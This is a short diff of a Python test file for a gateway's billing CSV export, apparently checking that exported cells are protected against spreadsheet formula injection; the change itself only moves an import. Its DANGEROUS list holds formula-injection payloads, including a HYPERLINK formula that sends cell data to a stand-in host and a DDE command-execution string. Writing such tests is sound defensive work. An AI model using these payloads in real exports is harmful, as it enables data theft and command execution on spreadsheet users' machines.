@@ -11,7 +11,7 @@ import pytest
 
 from gateway.billing.export import INT_COLUMNS, ROW_COLUMNS
 from gateway.billing.formats import CsvWriter, read_rows
-from gateway.catalog import DEFAULT_MODEL_ID
+from gateway.fleet.catalog import DEFAULT_MODEL_ID
 from tests.gateway.fixtures_e2e import ADMIN_TOKEN, InProcessGateway
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
